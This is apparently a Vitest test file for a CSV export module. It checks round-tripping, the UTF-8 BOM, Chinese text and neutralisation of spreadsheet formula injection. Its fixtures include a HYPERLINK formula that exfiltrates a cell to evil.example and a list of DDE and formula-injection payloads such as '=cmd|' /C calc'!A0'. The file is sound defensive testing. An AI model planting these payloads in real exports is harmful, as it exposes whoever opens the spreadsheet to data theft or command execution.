// @vitest-environment happy-dom
// Every saved table: read again by a standard parser it holds the same values, in Chinese too, and nothing in it runs.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvOf, inert, type Cell } from '../../../src/domain/csv';
import { exportsWith } from './exports';

const LINK = 'https://map.example/?view=plan&want=industry:biomedicine:1,rail:2';
const HOSTILE_LINK = '=HYPERLINK("https://evil.example/?"&A1,"map")';
const DATE = new Date(2026, 2, 4, 0, 30);
const CLEAN = exportsWith(LINK, DATE);
const HOSTILE = exportsWith(HOSTILE_LINK, DATE);

/** As a spreadsheet reads a file of UTF-8: the mark goes, the bytes are characters. */
const bytesRead = (text: string): string =>
  new TextDecoder('utf-8', { fatal: true }).decode(new TextEncoder().encode(text));

const readCells = (text: string): string[][] => parse(text, { bom: true });

/** Written out again by hand, so that the writer is not asked what it meant. */
function expected(cell: Cell): string {
  if (cell === null) return '';
  if (typeof cell !== 'string') return String(cell);
  return /^\s*[=+\-@]/.test(cell) ? `'${cell}` : cell;
}

const RUNS = /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/;

describe.each(CLEAN.map((each) => [each.name, each] as const))('%s', (_, table) => {
  it('comes back from a standard parser as it went in', () => {
    const [names, ...rows] = readCells(table.text);
    expect(names).toEqual(table.names);
    expect(rows).toEqual(table.cells.map((row) => row.map(expected)));
    expect(rows.length).toBeGreaterThan(9);
  });

  it('begins with the mark by which Excel sees UTF-8, and its Chinese is whole', () => {
    expect([...new TextEncoder().encode(table.text).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(readCells(bytesRead(table.text))).toEqual(readCells(table.text));
    expect(table.text).toMatch(/\p{Script=Han}/u);
    expect(table.text).not.toContain('\uFFFD');
  });

  it('has sources, the link and the day in every row', () => {
    const rows: Record<string, string>[] = parse(table.text, { bom: true, columns: true });
    for (const row of rows) {
      expect(row['link']).toBe(LINK);
      expect(row['date']).toBe('2026-03-04');
      // Only what no source says has no source.
      if (row['state'] !== 'unknown') expect(row['sources'], JSON.stringify(row)).not.toBe('');
    }
  });
});

it.each(HOSTILE.map((each) => [each.name, each] as const))(
  '%s holds no cell that a spreadsheet runs, whatever the link is',
  (_, { text, cells }) => {
    const rows = readCells(text).slice(1);
    expect(rows.every((row) => row.includes(`'${HOSTILE_LINK}`))).toBe(true);
    rows.forEach((row, y) =>
      row.forEach((cell, x) => {
        if (typeof cells[y]?.[x] !== 'number') expect(cell).not.toMatch(RUNS);
      }),
    );
  },
);

/** What has run in spreadsheets, and what comes near it. */
const ATTACKS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example","x")',
  '+1+1',
  '-2+3+cmd|0',
  '@SUM(1+1)*cmd|0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋86',
  '－1',
  '＠SUM(A1)',
  '"=1+1"',
  '=1+1,=2+2',
  '=1+1\r\n=2+2',
  "'=1+1",
  '海洋生物医药',
  '，、；',
];

it('keeps what has run in spreadsheets from running, and brings it back', () => {
  const rows = ATTACKS.map((attack, at) => [attack, at, ATTACKS.at(-at - 1) ?? ''] as const);
  const columns = [0, 1, 2].map((at) => ({
    name: `=column${at}`,
    value: (row: readonly Cell[]) => row[at] ?? null,
  }));
  const [names, ...read] = readCells(csvOf<readonly Cell[]>(columns, rows));
  expect(names).toEqual(["'=column0", "'=column1", "'=column2"]);
  expect(read).toEqual(rows.map(([one, at, other]) => [inert(one), String(at), inert(other)]));
  for (const row of read) for (const cell of row) expect(cell).not.toMatch(RUNS);
  read.forEach(([cell = ''], at) => expect(cell.endsWith(ATTACKS[at] ?? 'missing')).toBe(true));
});
